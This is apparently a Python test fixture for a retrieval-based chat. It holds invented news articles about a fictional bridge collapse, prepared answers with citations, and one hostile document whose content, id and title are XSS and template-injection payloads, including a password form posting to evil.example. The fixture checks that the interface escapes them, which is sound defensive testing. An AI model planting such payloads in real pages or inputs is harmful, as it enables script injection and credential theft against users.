"""Invented documents and prepared answers, for the tests of the chat: every kind of answer there is."""

from __future__ import annotations

import datetime as dt
import time
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

from rag.conversation import Turn
from rag.errors import DocumentError, QuestionError
from rag.filters import Filters
from rag.schema import (
    Answer,
    AnswerGroup,
    Attribution,
    Chunk,
    Citation,
    Document,
    Hit,
    Reason,
    Relation,
    Resolution,
    Role,
    Span,
)

_BRIDGE = """---
title: انهيار جسر الوادي
date: 2023-03-14
---
انهيار جسر الوادي

وردان، 14 آذار 2023

انهار فجر اليوم جسر الوادي في مدينة وردان بعد أسبوع من الأمطار الغزيرة. \
وقالت رئيسة البلدية لمى الحداد إن اثني عشر عاملاً أُصيبوا بجروح طفيفة، وإنّ أحداً لم يُقتل.\
وأضافت أن البلدية أغلقت الطريق في الساعة 5:40 صباحاً.

وذكر المهندس سامر بركات أن أساس الدعامة الثالثة جرفته المياه، وأن إعادة البناء ستكلّف ٤٫٢ مليون دينار.
"""
_HOSPITAL = """مستشفى وردان يستقبل المصابين
وردان، 15 آذار 2023

أعلن مستشفى وردان العام أنه استقبل 15 مصاباً في حادثة الجسر، خرج منهم تسعة في مساء اليوم نفسه.

وقال الطبيب ناصر العلي: «حالة المصابين مستقرة، ولا حاجة إلى نقل أحد منهم إلى العاصمة».

وأكد المستشفى أن البلدية أغلقت الطريق في الساعة 5:40 صباحاً قبل وصول سيارات الإسعاف.

ونقلت وكالة الوادي عن المتحدث باسم المستشفى رامي الخطيب أن مؤتمراً صحفياً سيُعقد الاثنين المقبل.
"""
_WIRE = """مصابو جسر وردان في المستشفى

أعلن المستشفى العام في وردان، الأربعاء، أنه استقبل 15 مصاباً في حادثة الجسر، خرج منهم تسعة مساء اليوم نفسه.
"""
_REPORT = """# Engineers' report on the Wardan bridge

20 March 2023

The inquiry found that floodwater had washed out the footing of the third pier. A survey made in 2019 had \
asked for scour protection (حماية من النحر), but no money was set aside.

The company Nahr Works will rebuild the bridge, and opens it again in September 2024.

A hearing on the report, the inquiry's chair Mona Sayegh told the Wardan Gazette, is set for next Monday.
"""
_HOSTILE = """<script>window.__hacked = "script"</script><img src=x onerror="window.__hacked = 'img'">
"><svg onload="window.__hacked = 'svg'"> <a href="javascript:window.__hacked='link'">press</a>
[press](javascript:window.__hacked='markdown') ![x](https://evil.example/pixel.png) {{constructor}} ${7*7} \
`code`
<form action="https://evil.example"><input name="password"></form><style>body{display:none}</style>
The safe is opened by the code \u202e4321\u202c, said the guard.</article></div></body>
"""

_LEVELS = "سجل منسوب الوادي\n\n" + "\n\n".join(
    f"في عام {year} بلغ أعلى منسوب للمياه عند محطة وردان {90 + (year * 37) % 160} سنتيمتراً وقيس في نيسان."
    for year in range(1950, 2021)
)

DOCUMENTS = [
    Document(
        id="أخبار/001 الجسر.md",
        text=_BRIDGE,
        title="انهيار جسر الوادي",
        lang="ar",
        date=dt.date(2023, 3, 14),
        source="صحيفة وردان",
        body_start=_BRIDGE.index("انهيار", _BRIDGE.index("---", 3)),
    ),
    Document(
        id="أخبار/002.txt",
        text=_HOSPITAL,
        title="مستشفى وردان يستقبل المصابين",
        lang="ar",
        date=dt.date(2023, 3, 15),
        source="وكالة الوادي",
    ),
    Document(
        id="وكالات/003.txt",
        text=_WIRE,
        title="مصابو جسر وردان في المستشفى",
        lang="ar",
        date=dt.date(2023, 3, 16),
    ),
    Document(
        id="report-2023.md",
        text=_REPORT,
        title="Engineers' report on the Wardan bridge",
        lang="en",
        date=dt.date(2023, 3, 20),
    ),
    Document(id="levels.txt", text=_LEVELS, title="سجل منسوب الوادي", lang="ar"),
    Document(
        id='a"><img src=x onerror=window.__hacked=1>\u202etxt.md',
        text=_HOSTILE,
        title='"><script>window.__hacked="title"</script>\u202e<b>عنوان',
        lang="en",
    ),
]


BRIDGE, HOSPITAL, WIRE, REPORT, LEVELS, HOSTILE = (item.id for item in DOCUMENTS)


def cite(document_id: str, quote: str, nth: int = 1, score: float = 0.9, **more: Any) -> Citation:
    """Return a citation of the `nth` place where a document says `quote`, with the sentence around it."""
    document = next(item for item in DOCUMENTS if item.id == document_id)
    start = document.body_start - 1
    for _ in range(nth):
        start = document.text.index(quote, start + 1)
    end = start + len(quote)
    before = [document.text.rfind(stop, document.body_start, start) for stop in ("\n", ". ", ".و")]
    after = [place for stop in (".\n", ". ", ".و", "\n") if (place := document.text.find(stop, end)) >= 0]
    context_start = max(max(before) + 1, document.body_start)
    while document.text[context_start].isspace():
        context_start += 1
    context_end = min(after) + 1 if after else len(document.text)
    context_end = max(end, context_start + len(document.text[context_start:context_end].rstrip()))
    return Citation(
        document=document.id,
        title=document.title,
        date=document.date,
        start=start,
        end=end,
        quote=quote,
        context_start=context_start,
        context_end=context_end,
        context=document.text[context_start:context_end],
        score=score,
        sha256=document.sha256,
        **more,
    )


def said(document_id: str, *links: tuple[Role, str]) -> tuple[Attribution, ...]:
    """Return the links of a chain, each where its document first has those words."""
    text = next(item.text for item in DOCUMENTS if item.id == document_id)
    places = [(role, quote, text.index(quote)) for role, quote in links]
    return tuple(Attribution(role, quote, start, start + len(quote)) for role, quote, start in places)


def on(day: dt.date, rule: str, *others: dt.date) -> Resolution:
    """Return the reading of a single day, with other readings."""
    return Resolution(day, day, rule, tuple(Resolution(other, other, rule) for other in others))


CLOSED = "متى أُغلق الطريق؟"
INJURED = "كم عدد المصابين؟"
CAUSE = "Why did the bridge fall?"
MIXED = "من سيعيد بناء الجسر، Nahr Works؟"
PRESS = "متى يُعقد المؤتمر الصحفي؟"
HEARING = "When is the hearing?"
LEVEL = "كم بلغ منسوب المياه عام 2019؟"
AND_IN_2020 = "وكم بلغ عام 2020؟"
LEVEL_2020 = "وكم بلغ منسوب المياه عام 2020؟"
GUARD = "What is the code?"
ABSENT = "من فاز بكأس العالم؟"  # no_passage
KILLED = "كم قتيلاً سقط في الحادثة؟"  # no_value
UNSURE = "من مموّل الجسر؟"  # low_confidence
SLOW = "ما الذي يطول البحث عنه؟"  # takes SECONDS
SECONDS = 6
EXAMPLES = [INJURED, CLOSED, PRESS, CAUSE]

_REASONS: dict[str, Reason] = {KILLED: "no_value", UNSURE: "low_confidence"}
_CLOSED_AT = "الساعة 5:40 صباحاً"
_MAYOR = said(BRIDGE, ("title", "رئيسة البلدية"), ("speaker", "لمى الحداد"))
_SPOKESMAN = said(
    HOSPITAL,
    ("agency", "وكالة الوادي"),
    ("title", "المتحدث باسم المستشفى"),
    ("speaker", "رامي الخطيب"),
)
_CHAIR = said(REPORT, ("outlet", "Wardan Gazette"), ("title", "inquiry's chair"), ("speaker", "Mona Sayegh"))


def _level(year: int) -> str:
    return f"{90 + (year * 37) % 160} سنتيمتراً"


def _answers() -> dict[str, tuple[Relation, list[tuple[float, list[Citation]]]]]:
    monday = on(dt.date(2023, 3, 20), "next weekday after the document's date")
    either = on(dt.date(2023, 3, 27), "next weekday after the document's date", dt.date(2023, 3, 20))
    return {
        CLOSED: (
            "agree",
            [
                (
                    0.91,
                    [cite(BRIDGE, _CLOSED_AT, attribution=_MAYOR), cite(HOSPITAL, _CLOSED_AT, origin=1)],
                ),
                (0.4, [cite(BRIDGE, "فجر اليوم", score=0.5)]),
            ],
        ),
        INJURED: (
            "conflict",
            [
                (0.83, [cite(BRIDGE, "اثني عشر عاملاً", attribution=_MAYOR)]),
                (0.71, [cite(HOSPITAL, "15 مصاباً"), cite(WIRE, "15 مصاباً")]),
            ],
        ),
        CAUSE: (
            "compatible",
            [
                (0.66, [cite(REPORT, "floodwater had washed out the footing of the third pier")]),
                (0.45, [cite(BRIDGE, "أساس الدعامة الثالثة جرفته المياه")]),
            ],
        ),
        MIXED: ("single", [(0.78, [cite(REPORT, "Nahr Works", as_of=dt.date(2023, 3, 20))])]),
        PRESS: (
            "single",
            [
                (
                    0.77,
                    [
                        cite(
                            HOSPITAL,
                            "الاثنين المقبل",
                            attribution=_SPOKESMAN,
                            resolved=monday,
                            as_of=dt.date(2023, 3, 15),
                        )
                    ],
                )
            ],
        ),
        HEARING: ("single", [(0.7, [cite(REPORT, "next Monday", attribution=_CHAIR, resolved=either)])]),
        LEVEL: ("single", [(0.8, [cite(LEVELS, _level(2019))])]),
        LEVEL_2020: ("single", [(0.8, [cite(LEVELS, _level(2020))])]),
        GUARD: ("single", [(0.6, [cite(HOSTILE, "4321\u202c, said the guard")])]),
    }


class FakePipeline:
    """Prepared answers over `DOCUMENTS`; any other question is one that they do not answer."""

    folder = Path("invented")

    def answer(
        self, question: str, k: int = 5, filters: Filters | None = None, earlier: Sequence[Turn | Answer] = ()
    ) -> Answer:
        """Return the prepared answer, or an abstention with two nearest passages.

        Of the groups, those with a citation of the right documents and languages. `AND_IN_2020` is completed
        when `LEVEL` was asked just before it.
        """
        if not question.strip():
            raise QuestionError("the question is empty; write one")
        asked = question.strip()
        if asked == SLOW:
            time.sleep(SECONDS)
        before = [getattr(each, "completed", None) or each.question for each in earlier]
        completed = LEVEL_2020 if asked == AND_IN_2020 and before[-1:] == [LEVEL] else None
        relation, groups = _answers().get(completed or asked, (None, []))
        allowed = self._allowed(filters or Filters())
        groups = [(score, [c for c in cited if c.document in allowed]) for score, cited in groups]
        groups = [(score, cited) for score, cited in groups if cited]
        if not groups:
            nearest = (
                cite(HOSPITAL, "حالة المصابين مستقرة", score=0.2),
                cite(REPORT, "A survey made in 2019", score=0.1),
            )
            reason = _REASONS.get(asked, "no_passage")
            return _read(Answer(question, 0.12, nearest=nearest, took_ms=3, reason=reason))
        made = tuple(AnswerGroup(tuple(citations), confidence) for confidence, citations in groups)
        return _read(Answer(question, made[0].confidence, made[:k], relation, took_ms=3, completed=completed))

    def explain(self, answer: Answer) -> dict[str, Any]:
        """Return how the answer came about: the passages, and that the next document would say it, too."""
        first, *others = answer.citations or (None,)
        other = next((each for each in others if each.sha256 != first.sha256), None) if first else None
        return {
            "threshold": 0.32,
            "confidence": answer.confidence,
            "passages": [
                {
                    "document": hit.chunk.document_id,
                    "start": hit.chunk.start,
                    "end": hit.chunk.end,
                    "score": hit.score,
                    "evidence": dict(hit.evidence),
                    "text": hit.chunk.text,
                }
                for hit in answer.hits
            ],
            "without_first_source": first
            and {
                "document": first.document,
                "answered": other is not None,
                "answer": other and other.quote,
                "confidence": other and 0.55,
                "relation": other and "single",
            },
        }

    def _allowed(self, filters: Filters) -> set[str]:
        for name in filters.documents:
            self.document(name)
        return {
            item.id
            for item in DOCUMENTS
            if (not filters.documents or item.id in filters.documents)
            and (not filters.languages or item.lang in filters.languages)
            and (not filters.since or (item.date is not None and item.date >= filters.since))
            and (not filters.until or (item.date is not None and item.date <= filters.until))
        }

    def documents(self) -> list[Document]:
        """Return the invented documents."""
        return list(DOCUMENTS)

    def document(self, document_id: str) -> Document:
        """Return one of them."""
        for item in DOCUMENTS:
            if item.id == document_id:
                return item
        raise DocumentError(document_id, "there is no such document")


def _read(answer: Answer) -> Answer:
    """Return an answer with the passages that it was read in, and the marks in them."""
    shown = answer.citations or answer.nearest
    chunks = [Chunk(each.document, each.context, each.context_start) for each in shown]
    hits = tuple(
        Hit(chunk, 1.5 - 0.25 * i, {"lexical": 12.5 - i, "names": 0.0, "dense": 0.6, "alignment": 0.75})
        for i, chunk in enumerate(chunks)
    )
    spans = tuple(
        Span(chunk, each.start, each.end, each.context_start, each.context_end, each.score)
        for chunk, each in zip(chunks, shown, strict=True)
    )
    return replace(answer, hits=hits, spans=spans)
